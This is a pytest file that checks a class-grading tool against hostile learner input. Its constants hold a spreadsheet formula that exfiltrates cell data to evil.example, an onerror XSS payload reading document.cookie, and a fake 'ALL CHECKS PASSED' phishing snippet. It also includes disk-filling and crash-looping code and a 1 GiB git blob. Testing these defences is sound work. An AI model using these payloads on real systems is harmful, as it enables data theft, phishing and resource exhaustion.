"""Hostile learners against `nox -s grade-class`: tricks that harm the instructor, the class or the machine.

`test_attacks.py` holds the tricks that try to earn points; these try to harm: a name that is a spreadsheet
formula or HTML, an exception message that fakes a passed grade in `summary.md`, a name that breaks the
report's figures or the file system, a repository that exhausts the grader's memory, the sandbox's `/tmp`
that fills the host's RAM, and a worker that restarts until the disk is full. Each is graded for real, by
`python -m kata grade-class` (or `grade`) from a snapshot of the course.
"""

from __future__ import annotations

import csv
import html.parser
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import threading
import time
import zlib
from hashlib import sha1
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from ..conftest import ROOT, copy_solutions, tool
from . import class_repos

pytestmark = pytest.mark.slow

FORMULA = '=HYPERLINK(CONCAT("https:",CHAR(47),CHAR(47),"evil.example",CHAR(47),"x?"&A1),"Carol")'
IMG = "<img src=x onerror=alert(document.cookie)>"
MATHTEXT = "Ka$$ie"
PHISHING = ('</details><h1>ALL CHECKS PASSED</h1><img src="https://evil.example/t.png">'
            "[Re-grade here](https://evil.example/login) ![x](https://evil.example/p.png)")


def _render(markdown: str) -> str:
    """Markdown as GitHub's renderer reads it: CommonMark with tables and raw HTML allowed."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _tags(page: str) -> list[tuple[str, dict]]:
    parser = _Tags()
    parser.feed(page)
    return parser.tags


# -- names ----------------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def hostile_names(tmp_path_factory):
    """A class whose names are a formula, HTML and mathtext (their repositories missing: nothing to grade)."""
    base = tmp_path_factory.mktemp("names")
    course = class_repos.course_copy(base / "course")
    rows = [["student", "repo", "section"], [FORMULA, "nowhere-1", "-S1"], [IMG, "nowhere-2", "S1"],
            [MATHTEXT, "nowhere-3", "S2"]]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    (base / "roster.csv").write_text(buf.getvalue(), encoding="utf-8")
    out = base / "out"
    summary = base / "step_summary.md"
    proc = tool("grade-class", str(base / "roster.csv"), "--out", str(out), "--chapters", "1", "--seed", "1",
                root=course, env={"GITHUB_STEP_SUMMARY": str(summary)}, timeout=120)
    return {"proc": proc, "out": out, "summary": summary}


def test_a_name_that_is_a_formula_is_text_in_the_gradebook(hostile_names):
    """every cell a learner wrote starts with a quote when a spreadsheet would run it (OWASP's rule)"""
    rows = list(csv.DictReader(io.StringIO((hostile_names["out"] / "gradebook.csv").read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row.values()]
    assert "'" + FORMULA in cells and "'-S1" in cells, cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_name_that_is_html_is_text_in_the_class_summary_and_the_report(hostile_names):
    """`<img onerror>` in a name is shown, never an element: the run page's summary and report.html"""
    summary = hostile_names["summary"].read_text(encoding="utf-8")
    assert not [t for t, attrs in _tags(_render(summary)) if t == "img"], summary
    report = (hostile_names["out"] / "report.html").read_text(encoding="utf-8")
    images = _tags(report)
    assert not [attrs for t, attrs in images if "onerror" in attrs], "an image with onerror in report.html"
    assert [attrs for t, attrs in images if t == "img"] and all(
        attrs.get("class") == "figure" for t, attrs in images if t == "img")
    for name in (FORMULA, IMG, MATHTEXT):
        own = (hostile_names["out"] / "students" / name / "summary.md").read_text(encoding="utf-8")
        assert not [t for t, _ in _tags(_render(own)) if t in ("img", "a", "h1")], own


def test_a_name_with_dollars_does_not_stop_the_report(hostile_names):
    """matplotlib draws `Ka$$ie` as typed (no mathtext): the report is written and the run exits 0"""
    proc = hostile_names["proc"]
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-3000:]
    assert (hostile_names["out"] / "report.html").is_file()


def test_a_name_too_long_in_bytes_is_refused_with_its_line(tmp_path):
    """90 CJK characters are 270 bytes: refused before anything is graded, naming the line, not an OSError later"""
    name = "李" * 90
    (tmp_path / "roster.csv").write_text(f"student,repo\nada,ada\n{name},nowhere\n", encoding="utf-8")
    proc = tool("grade-class", str(tmp_path / "roster.csv"), "--out", str(tmp_path / "out"), timeout=60)
    assert proc.returncode == 2, proc.stdout[-2000:] + proc.stderr[-2000:]
    assert "roster.csv, line 3" in proc.stderr and "270 bytes" in proc.stderr, proc.stderr
    assert not (tmp_path / "out").exists()


# -- an exception message ---------------------------------------------------------------------------------------
def test_an_exception_message_cannot_fake_a_summary(tmp_path):
    """HTML, a heading, an image and a link in an exception's message land in summary.md as text"""
    course = class_repos.course_copy(tmp_path / "course")
    impl = copy_solutions(tmp_path / "impl" / "exercises")
    path = impl / "chapter01_sequences.py"
    code = path.read_text(encoding="utf-8")
    name = _first_function(path)
    path.write_text(code + f"\n\ndef {name}(*args, **kwargs):\n    raise ValueError({PHISHING!r})\n", encoding="utf-8")
    proc = tool("grade", "--impl", str(impl), "--chapters", "1", "--out", str(tmp_path / "out"), root=course,
                timeout=120)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
    summary = (tmp_path / "out" / "summary.md").read_text(encoding="utf-8")
    assert "ALL CHECKS PASSED" in summary, "the message should be quoted, as text"
    tags = [t for t, _ in _tags(_render(summary))]
    assert not {"h1", "img", "a"} & set(tags), summary
    assert tags.count("details") == summary.count("<details>"), "a </details> closed the report's own section"


# -- resources ---------------------------------------------------------------------------------------------------
def _zero_blob(repo: Path, size: int) -> str:
    r"""Write a blob of ``size`` zero bytes (a multiple of 1 MiB) into ``repo``'s object store, cheaply.

    A loose object is the zlib stream of ``blob SIZE\0`` and the content. After a full flush a deflate
    block stands alone, so the block of one MiB of zeros is written once and repeated, then a final empty
    block and the Adler-32 of the whole; only the SHA-1 and the Adler-32 go over every byte (about 2 s).
    """
    header, chunk = f"blob {size}\0".encode(), bytes(1 << 20)
    digest, adler = sha1(header), zlib.adler32(header)
    for _ in range(size >> 20):
        digest.update(chunk)
        adler = zlib.adler32(chunk, adler)
    packer = zlib.compressobj(1)
    head = packer.compress(header) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    sha = digest.hexdigest()
    target = repo / ".git" / "objects" / sha[:2] / sha[2:]
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(head + block * (size >> 20) + b"\x03\x00" + struct.pack(">I", adler))
    return sha


def _run_measured(cmd: list[str], cwd: Path, env: dict, timeout: float) -> tuple[int, str, int]:
    """Run ``cmd``; return its exit code, output and the largest resident set of it and its children (bytes)."""
    proc = subprocess.Popen(cmd, cwd=cwd, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    out: list[bytes] = []
    reader = threading.Thread(target=lambda: out.append(proc.stdout.read()), daemon=True)
    reader.start()
    timer = threading.Timer(timeout, proc.kill)
    timer.start()
    _, status, usage = os.wait4(proc.pid, 0)
    timer.cancel()
    proc.returncode = os.waitstatus_to_exitcode(status)
    reader.join(10)
    proc.stdout.close()
    return proc.returncode, b"".join(out).decode(errors="replace"), usage.ru_maxrss * 1024


def test_a_1_gib_file_is_measured_before_it_is_read(tmp_path):
    """a 1 GiB file of zeros (1 MB in git) keeps the grader far under 1 GiB, and the note names it as dropped"""
    course = class_repos.course_copy(tmp_path / "course")
    repo = tmp_path / "learners" / "zoe"
    repo.mkdir(parents=True)
    class_repos.git(repo, "init", "-q", "-b", "main")
    shutil.copytree(ROOT / "solutions", repo / "exercises", ignore=shutil.ignore_patterns("__pycache__"))
    class_repos.git(repo, "add", "-A")
    sha = _zero_blob(repo, 1 << 30)
    class_repos.git(repo, "update-index", "--add", "--cacheinfo", f"100644,{sha},exercises/weights.bin")
    class_repos.git(repo, "commit", "-q", "-m", "with weights")
    (tmp_path / "learners" / "roster.csv").write_text("student,repo\nzoe,zoe\n", encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if k not in ("GITHUB_STEP_SUMMARY", "PYTEST_ADDOPTS")}
    env["PYTHONPATH"] = str(course)
    code, output, peak = _run_measured(
        [sys.executable, "-m", "kata", "grade-class", str(tmp_path / "learners" / "roster.csv"), "--out",
         str(tmp_path / "out"), "--chapters", "1", "--seed", "1"], course, env, timeout=120)
    assert code == 0, output[-3000:]
    print(f"grading a repository with a 1 GiB file: largest resident set {peak / 2**20:.0f} MiB")
    assert peak < 512 * 2**20, f"{peak / 2**20:.0f} MiB"
    row = json.loads((tmp_path / "out" / "gradebook.json").read_text(encoding="utf-8"))["rows"][0]
    assert row["status"] == "graded" and row["percent"] == 100.0, row["note"]
    assert "exercises/weights.bin" in row["note"] and "not graded" in row["note"], row["note"]


FILLER = """

def _fill():  # writes files of 4 MiB (the output limit of one file) into {where}, at most {count} of them
    import os
    written, block = 0, bytes(4 << 20)
    for i in range({count}):
        try:
            with open(os.path.join({folder}, f"fill{{i}}"), "wb") as f:
                f.write(block)
            written += 4 << 20
        except OSError:
            break
    return written


def {name}(*args, **kwargs):
    raise ValueError(f"filled {where}: wrote {{_fill()}} bytes")
"""


def _plant_filler(impl: Path, folder: str, count: int, where: str) -> None:
    """Plant a filler: chapter 1's first function writes 4 MiB files into ``folder`` until refused, then fails.

    ``folder`` is a Python expression; the failure says "filled <where>: wrote N bytes".
    """
    path = impl / "chapter01_sequences.py"
    filler = FILLER.format(name=_first_function(path), folder=folder, count=count, where=where)
    path.write_text(path.read_text(encoding="utf-8") + filler, encoding="utf-8")


def _written(results: dict, where: str) -> int:
    """The most bytes the planted filler says it wrote (its check must have failed with its message)."""
    said = [t["message"] for c in results["chapters"] for s in c["steps"] for t in s["tests"]
            if f"filled {where}: wrote" in (t["message"] or "")]
    assert said, "the learner's check should fail with the filler's message"
    return max(int(m.split(f"filled {where}: wrote ", 1)[1].split()[0]) for m in said)


def _shared_memory() -> int:
    """Bytes of shared memory in use on the host (where a tmpfs's pages are counted)."""
    for line in Path("/proc/meminfo").read_text().splitlines():
        if line.startswith("Shmem:"):
            return int(line.split()[1]) * 1024
    return 0


def _first_function(path: Path) -> str:
    code = path.read_text(encoding="utf-8")
    first = next(line for line in code.splitlines() if line.startswith("def "))
    return first[4:first.index("(")]


def test_filling_the_sandboxs_tmp_costs_the_learner_not_the_host(tmp_path):
    """/tmp in the sandbox is a small tmpfs: writing it full fails early, in the learner's own check, for little host RAM"""
    if not shutil.which("bwrap") or os.environ.get("KATA_NO_SANDBOX"):
        pytest.skip("about the sandbox's /tmp: needs bubblewrap")
    from kata.judge import proxy

    course = class_repos.course_copy(tmp_path / "course")
    impl = copy_solutions(tmp_path / "impl" / "exercises")
    _plant_filler(impl, '"/tmp"', 300, "/tmp")  # at most 1.2 GiB
    baseline, peak, running = _shared_memory(), [0], [True]

    def watch() -> None:
        while running[0]:
            peak[0] = max(peak[0], _shared_memory())
            time.sleep(0.02)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    try:
        proc = tool("grade", "--impl", str(impl), "--chapters", "1", "--out", str(tmp_path / "out"), root=course,
                    timeout=120)
    finally:
        running[0] = False
        watcher.join()
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
    results = json.loads((tmp_path / "out" / "results.json").read_text(encoding="utf-8"))
    assert any(p.startswith("bubblewrap") for p in results["protections"]), results["protections"]
    written = _written(results, "/tmp")
    grown = peak[0] - baseline
    print(f"a worker writing /tmp full: {written / 2**20:.0f} MiB written, host shared memory "
          f"+{grown / 2**20:.0f} MiB at most")
    assert grown < 2**30, f"{grown / 2**20:.0f} MiB of the host's RAM"
    assert written <= proxy.TMP_BYTES, f"{written / 2**20:.0f} MiB written into the sandbox's /tmp"


EXIT_EVERY_CALL = '''

def softmax(x, axis=-1):  # ends the learner's process on every call: the worker restarts for the next test
    import os
    os._exit(3)
'''


def _bytes_under(folder: Path) -> int:
    total = 0
    for dirpath, _, names in os.walk(folder):
        for name in names:
            try:
                total += os.lstat(os.path.join(dirpath, name)).st_size
            except OSError:
                pass
    return total


def _run_watching_disk(cmd: list[str], cwd: Path, tmp: Path, limit: int, timeout: float) -> tuple[int, str, int]:
    """Run ``cmd`` with ``TMPDIR=tmp``; return its exit code, output and the most bytes ``tmp`` held at once.

    Past ``limit`` bytes the run is stopped (the test has failed by then; the disk is spared).
    """
    env = {k: v for k, v in os.environ.items() if k not in ("GITHUB_STEP_SUMMARY", "PYTEST_ADDOPTS")}
    env.update(PYTHONPATH=str(cwd), TMPDIR=str(tmp))
    proc = subprocess.Popen(cmd, cwd=cwd, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            start_new_session=True)
    out: list[bytes] = []
    reader = threading.Thread(target=lambda: out.append(proc.stdout.read()), daemon=True)
    reader.start()
    peak, began = 0, time.monotonic()
    while proc.poll() is None:
        peak = max(peak, _bytes_under(tmp))
        if peak > limit or time.monotonic() - began > timeout:
            os.killpg(proc.pid, 9)
            proc.wait()
            break
        time.sleep(0.02)
    reader.join(10)
    proc.stdout.close()
    return proc.returncode, b"".join(out).decode(errors="replace"), peak


def test_a_restarting_worker_keeps_one_copy_of_the_learners_files(tmp_path):
    """a softmax that ends the worker on every call: each restart replaces the copy of the code, never adds one"""
    course = class_repos.course_copy(tmp_path / "course")
    impl = copy_solutions(tmp_path / "impl" / "exercises", {"chapter04_attention": EXIT_EVERY_CALL})
    for i in range(2):
        (impl / f"data{i}.bin").write_bytes(bytes(19 << 20))
    copy = _bytes_under(impl)
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    code, output, peak = _run_watching_disk(
        [sys.executable, "-m", "kata", "grade", "--impl", str(impl), "--chapters", "4", "--out",
         str(tmp_path / "out")], course, tmp, limit=4 * copy, timeout=120)
    print(f"a worker ending on every call, {copy / 2**20:.0f} MiB of code: temporary files peaked at "
          f"{peak / 2**20:.0f} MiB")
    assert peak <= 2 * copy + (8 << 20), f"{peak / 2**20:.0f} MiB: copies of the code pile up"
    assert code == 0, output[-3000:]
    results = json.loads((tmp_path / "out" / "results.json").read_text(encoding="utf-8"))
    said = [t["message"] for c in results["chapters"] for s in c["steps"] for t in s["tests"] if t["message"]]
    assert sum("ended the learner's process" in m for m in said) >= 3, said[:3]
    assert _bytes_under(tmp) == 0, "the worker's folders stay behind"


def test_twenty_files_of_19_mb_and_a_worker_that_exits_stay_under_2_gib_of_disk(tmp_path):
    """the issue's repository: 20 files of 19 MB (kilobytes in git) and a softmax that exits, graded by grade-class"""
    course = class_repos.course_copy(tmp_path / "course")
    repo = tmp_path / "learners" / "max"
    repo.mkdir(parents=True)
    class_repos.git(repo, "init", "-q", "-b", "main")
    copy_solutions(repo / "exercises", {"chapter04_attention": EXIT_EVERY_CALL})
    class_repos.git(repo, "add", "-A")
    sha = _zero_blob(repo, 19 << 20)
    for i in range(20):
        class_repos.git(repo, "update-index", "--add", "--cacheinfo", f"100644,{sha},exercises/data{i:02d}.bin")
    class_repos.git(repo, "commit", "-q", "-m", "data")
    (tmp_path / "learners" / "roster.csv").write_text("student,repo\nmax,max\n", encoding="utf-8")
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    code, output, peak = _run_watching_disk(
        [sys.executable, "-m", "kata", "grade-class", str(tmp_path / "learners" / "roster.csv"), "--out",
         str(tmp_path / "out"), "--chapters", "4", "--seed", "1"], course, tmp, limit=2 << 30, timeout=180)
    print(f"20 files of 19 MiB and a worker ending on every call: temporary files peaked at {peak / 2**20:.0f} MiB")
    assert peak < 2 << 30, f"{peak / 2**20:.0f} MiB"
    assert code == 0, output[-3000:]
    row = json.loads((tmp_path / "out" / "gradebook.json").read_text(encoding="utf-8"))["rows"][0]
    assert row["status"] == "graded" and "exercises/data00.bin" in row["note"], row["note"]


def test_the_workers_folder_on_the_hosts_disk_cannot_be_filled(tmp_path):
    """in the sandbox the worker's own folder (on the host's disk) is read-only but for its output file"""
    if not shutil.which("bwrap") or os.environ.get("KATA_NO_SANDBOX"):
        pytest.skip("about the sandbox: needs bubblewrap")
    course = class_repos.course_copy(tmp_path / "course")
    impl = copy_solutions(tmp_path / "impl" / "exercises")
    _plant_filler(impl, "os.getcwd()", 256, "the folder")  # where the worker runs, on the host's disk; at most 1 GiB
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    code, output, peak = _run_watching_disk(
        [sys.executable, "-m", "kata", "grade", "--impl", str(impl), "--chapters", "1", "--out",
         str(tmp_path / "out")], course, tmp, limit=2 << 30, timeout=120)
    print(f"a worker writing files into its folder: temporary files peaked at {peak / 2**20:.0f} MiB")
    assert code == 0, output[-3000:]
    results = json.loads((tmp_path / "out" / "results.json").read_text(encoding="utf-8"))
    written = _written(results, "the folder")
    assert written == 0 and peak < 64 << 20, f"{written / 2**20:.0f} MiB written, {peak / 2**20:.0f} MiB at most"


def test_the_files_taken_fit_the_caps_python_first_and_every_other_is_named():
    """over the file count or the total, Python files are taken first; each file left out is in the note"""
    from kata.grading import submissions

    found = [(f"exercises/notes/n{i:03d}.txt", "0" * 40, 10) for i in range(submissions.MAX_FILES)]
    found += [("exercises/chapter01_sequences.py", "1" * 40, 5000), ("exercises/big.py", "2" * 40, 2 << 20),
              ("exercises/mid.npy", "3" * 40, submissions.MAX_TOTAL_BYTES)]
    taken, dropped = submissions.choose(found)
    note = "; ".join(dropped)
    paths = [p for p, _, _ in taken]
    assert paths[0] == "exercises/chapter01_sequences.py" and len(paths) == submissions.MAX_FILES
    assert sum(size for _, _, size in taken) <= submissions.MAX_TOTAL_BYTES
    assert "exercises/big.py: file over the size limit of 1 MiB (2 MiB)" in dropped
    assert "exercises/mid.npy: file over the size limit of 1 MiB (8 MiB)" in dropped
    assert "exercises/notes/n199.txt: past the limit of 8 MiB or 200 files in all" in dropped, note
